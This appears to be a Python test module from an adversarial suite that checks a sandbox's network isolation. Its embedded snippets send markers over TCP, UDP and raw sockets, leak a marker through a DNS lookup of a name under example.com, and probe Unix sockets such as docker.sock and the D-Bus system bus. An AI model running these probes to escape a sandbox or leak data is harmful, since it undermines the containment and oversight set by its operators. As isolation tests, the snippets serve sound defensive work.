"""Reach something outside."""

from tests.adversarial.attacks.answers import RIGHT, RIGHT_EARNS
from tests.adversarial.attacks.collection import Attack, Work, collector

ATTACKS: list[Attack] = []
attack = collector(ATTACKS)


@attack(earns=RIGHT_EARNS, exactly=True)
def sockets():
    """Connect to the machine itself and to the world, by TCP, by UDP and by raw packets."""
    return Work(
        RIGHT,
        before=(
            """
import socket

for kind, address in (
    (socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
    (socket.SOCK_STREAM, ("localhost", 22)),
    (socket.SOCK_STREAM, ("192.0.2.1", 80)),
    (socket.SOCK_DGRAM, ("192.0.2.1", 53)),
    (socket.SOCK_RAW, ("127.0.0.1", 0)),
):
    try:
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.send(b"@MARK@")
            print("connected", address)
    except OSError as error:
        print(address, type(error).__name__, error)
mounted()
""",
        ),
    )


@attack(earns=RIGHT_EARNS, exactly=True)
def names_looked_up():
    """Look a name up, which carries words out of a machine without any connection."""
    return Work(
        RIGHT,
        before=(
            """
import socket

for name in ("@MARK@.example.com", "localhost"):
    try:
        print(name, socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, type(error).__name__)
mounted()
""",
        ),
    )


@attack(earns=RIGHT_EARNS, exactly=True)
def local_sockets():
    """Connect to Unix sockets: one without a file, and those of the system's services."""
    return Work(
        RIGHT,
        before=(
            """
import glob, socket

for address in (
    "\\0@ABSTRACT@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
    "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", *glob.glob("/run/**/*.sock", recursive=True),
):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(address)
            s.send(b"@MARK@")
            print("connected", repr(address))
    except OSError as error:
        print(repr(address), type(error).__name__)
mounted()
""",
        ),
    )
